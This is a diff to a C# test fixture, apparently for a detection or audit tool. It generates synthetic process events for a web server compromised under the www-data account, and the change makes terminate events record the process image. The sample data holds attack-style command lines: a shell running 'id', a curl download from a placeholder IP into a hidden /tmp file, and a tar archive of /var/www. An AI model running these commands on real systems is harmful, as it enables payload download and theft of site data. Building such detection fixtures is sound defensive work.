@@ -61,12 +61,12 @@ internal sealed class WebServerJournal
         Commit();
         Create(Audit | Detect, [null, "shell of a web server"], "/usr/bin/dash", "sh -c id", "www-data");
         Create(Audit, NoName, "/usr/bin/id", "id", "www-data");
-        End(Audit);
-        End(Audit);
+        End("/usr/bin/id");
+        End("/usr/bin/dash");
         Ledger(7);
         Commit();
         Create(Audit | Detect, [null, "download"], "/usr/bin/curl", "curl -so /tmp/.x http://203.0.113.9/x", "www-data");
-        End(Audit);
+        End("/usr/bin/curl");
         Commit();
         _segment.Seal();
         Keep();
@@ -79,7 +79,7 @@ internal sealed class WebServerJournal
         Create(Audit, NoName, "/usr/bin/tar", "tar -cz /var/www", "www-data");
         Ledger(11);
         Commit();
-        End(Audit);
+        End("/usr/bin/tar");
         Commit();
         Keep();
         Files["cursors/trail.cursor"] = new CursorSlot(SampleEvents.Journal, 9, 13, [(1, 7, 0, 0), (5, 4, 0, 0), (1100, 1, 0, 0)]).Bytes;
@@ -89,7 +89,7 @@ internal sealed class WebServerJournal
     private void Create(ulong routes, string?[] names, string image, string commandLine, string user) =>
         _segment.Entry(routes, names, SampleEvents.Create(_segment.Next, image, commandLine, user));
 
-    private void End(ulong routes) => _segment.Entry(routes, NoName, SampleEvents.Terminate(_segment.Next, user: "www-data"));
+    private void End(string image) => _segment.Entry(Audit, NoName, SampleEvents.Terminate(_segment.Next, user: "www-data", image: image));
 
     private void Commit() => _segment.Commit(SampleEvents.Start + (long)(_segment.Next - 1) * SampleEvents.Second + Delay);
 
